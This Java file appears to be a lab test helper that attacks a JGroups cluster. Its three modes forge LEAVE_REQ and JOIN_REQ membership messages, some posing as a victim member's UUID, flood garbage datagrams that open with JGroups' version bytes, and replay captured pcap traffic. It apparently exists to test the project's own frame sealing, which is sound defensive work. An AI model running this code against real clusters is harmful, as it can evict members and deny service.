package haven.lab;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.jgroups.EmptyMessage;
import org.jgroups.Message;
import org.jgroups.Version;
import org.jgroups.conf.ClassConfigurator;
import org.jgroups.protocols.TP;
import org.jgroups.protocols.TpHeader;
import org.jgroups.protocols.pbcast.GMS;
import org.jgroups.util.UUID;
import org.jgroups.util.Util;

/**
 * A host on the cluster network without the cluster key, run in the lab's client namespace by
 * {@link ClusterTrafficLabTest}. Prints one line, "sent N", when done.
 *
 * <pre>
 * forge CLUSTER PORT IP,IP,... UUID      header-only JGroups messages (LEAVE_REQ, JOIN_REQ) in JGroups' own
 *                                        wire format, for and from the member UUID and random ones, and
 *                                        frames in haven's sealed format with no key
 * flood PORT IP,IP,... PER_SECOND SECONDS  garbage datagrams that start with JGroups' version
 * replay PCAP PORT SECONDS               the UDP payloads captured to PORT, each sent again from this host to
 *                                        the address it went to, at their captured pace, over and over
 * </pre>
 */
public final class ClusterAttacker {
    private ClusterAttacker() {}

    public static void main(String[] args) throws Exception {
        System.setProperty("jgroups.use.jdk_logger", "true"); // as the daemon does: not SLF4J from the test class path
        long sent = switch (args[0]) {
            case "forge" -> forge(args[1], Integer.parseInt(args[2]), addresses(args[3]), UUID.fromString(args[4]));
            case "flood" -> flood(Integer.parseInt(args[1]), addresses(args[2]), Integer.parseInt(args[3]), Integer.parseInt(args[4]));
            case "replay" -> replay(Path.of(args[1]), Integer.parseInt(args[2]), Integer.parseInt(args[3]));
            default -> throw new IllegalArgumentException("unknown attack " + args[0] + ": forge, flood or replay");
        };
        System.out.println("sent " + sent);
    }

    private static List<InetAddress> addresses(String list) throws IOException {
        List<InetAddress> out = new ArrayList<>();
        for (String a : list.split(",")) out.add(InetAddress.getByName(a));
        return out;
    }

    private static long forge(String cluster, int port, List<InetAddress> targets, UUID victim) throws Exception {
        short tpId = ClassConfigurator.getProtocolId(TP.class);
        short gmsId = ClassConfigurator.getProtocolId(GMS.class);
        List<byte[]> datagrams = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            UUID member = i % 2 == 0 ? victim : UUID.randomUUID();
            for (byte type : new byte[] {GMS.GmsHeader.LEAVE_REQ, GMS.GmsHeader.JOIN_REQ}) {
                for (boolean multicast : new boolean[] {true, false}) {
                    Message m = new EmptyMessage(multicast ? null : UUID.randomUUID()).setSrc(member)
                            .putHeader(gmsId, new GMS.GmsHeader(type, member)).putHeader(tpId, new TpHeader(cluster));
                    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                    Util.writeMessage(m, new DataOutputStream(bytes), multicast);
                    datagrams.add(bytes.toByteArray());
                }
            }
            datagrams.add(fakeSealedFrame("n" + (1 + i % 3), new Random(i)));
        }
        long sent = 0;
        try (DatagramSocket socket = new DatagramSocket()) {
            for (int round = 0; round < 5; round++) {
                for (byte[] d : datagrams) {
                    for (InetAddress t : targets) {
                        socket.send(new DatagramPacket(d, d.length, t, port));
                        sent++;
                    }
                }
                Thread.sleep(200);
            }
        }
        return sent;
    }

    /** haven's frame layout with a real node's name, but sealed with no key at all: random bytes for the tag. */
    private static byte[] fakeSealedFrame(String node, Random random) {
        byte[] name = node.getBytes(StandardCharsets.UTF_8);
        byte[] body = new byte[64];
        random.nextBytes(body);
        return ByteBuffer.allocate(4 + name.length + 24 + body.length).put((byte) 'h').put((byte) 'v').put((byte) 1)
                .put((byte) name.length).put(name).putLong(System.currentTimeMillis()).putLong(1).putLong(0).put(body).array();
    }

    private static long flood(int port, List<InetAddress> targets, int perSecond, int seconds) throws Exception {
        Random random = new Random(42);
        byte[] d = new byte[120];
        long sent = 0;
        long start = System.nanoTime();
        long end = start + seconds * 1_000_000_000L;
        try (DatagramSocket socket = new DatagramSocket()) {
            while (System.nanoTime() < end) {
                long due = (System.nanoTime() - start) * perSecond / 1_000_000_000L;
                while (sent < due) {
                    random.nextBytes(d);
                    ByteBuffer.wrap(d).putShort(Version.version); // JGroups' prefix: the old parser then failed on the rest
                    socket.send(new DatagramPacket(d, d.length, targets.get((int) (sent % targets.size())), port));
                    sent++;
                }
                Thread.sleep(1);
            }
        }
        return sent;
    }

    private record Captured(long atMicros, InetAddress to, byte[] payload) {}

    private static long replay(Path pcap, int port, int seconds) throws Exception {
        List<Captured> captured = udpPayloads(Files.readAllBytes(pcap), port);
        if (captured.isEmpty()) throw new IllegalStateException("no datagram to port " + port + " in " + pcap);
        long sent = 0;
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        try (DatagramSocket socket = new DatagramSocket()) {
            while (System.nanoTime() < end) {
                long roundStart = System.nanoTime();
                long first = captured.get(0).atMicros();
                for (Captured c : captured) {
                    long due = roundStart + (c.atMicros() - first) * 1000;
                    long wait = due - System.nanoTime();
                    if (wait > 0) Thread.sleep(wait / 1_000_000, (int) (wait % 1_000_000));
                    if (System.nanoTime() >= end) break;
                    socket.send(new DatagramPacket(c.payload(), c.payload().length, c.to(), port));
                    sent++;
                }
            }
        }
        return sent;
    }

    /** UDP payloads of unfragmented IPv4 packets to port in a pcap file of Ethernet frames (tcpdump -w). */
    private static List<Captured> udpPayloads(byte[] file, int port) throws IOException {
        ByteBuffer b = ByteBuffer.wrap(file);
        int magic = b.order(ByteOrder.LITTLE_ENDIAN).getInt(0);
        if (magic != 0xa1b2c3d4 && magic != 0xa1b23c4d) b.order(ByteOrder.BIG_ENDIAN);
        boolean nanos = b.getInt(0) == 0xa1b23c4d;
        List<Captured> out = new ArrayList<>();
        int at = 24;
        while (at + 16 <= file.length) {
            long micros = (b.getInt(at) & 0xffffffffL) * 1_000_000 + (b.getInt(at + 4) & 0xffffffffL) / (nanos ? 1000 : 1);
            int length = b.getInt(at + 8);
            int frame = at + 16;
            at = frame + length;
            if (at > file.length || length < 14 + 20 + 8) break;
            if ((file[frame + 12] & 0xff) != 0x08 || file[frame + 13] != 0x00) continue; // IPv4 only
            int ip = frame + 14;
            int headerLength = (file[ip] & 0x0f) * 4;
            boolean fragmented = ((file[ip + 6] & 0x3f) | file[ip + 7]) != 0;
            if (file[ip + 9] != 17 || fragmented) continue;
            InetAddress to = InetAddress.getByAddress(java.util.Arrays.copyOfRange(file, ip + 16, ip + 20));
            int udp = ip + headerLength;
            int dstPort = ((file[udp + 2] & 0xff) << 8) | (file[udp + 3] & 0xff);
            int udpLength = ((file[udp + 4] & 0xff) << 8) | (file[udp + 5] & 0xff);
            if (dstPort != port || udp + udpLength > at) continue;
            byte[] payload = new byte[udpLength - 8];
            System.arraycopy(file, udp + 8, payload, 0, payload.length);
            out.add(new Captured(micros, to, payload));
        }
        return out;
    }
}
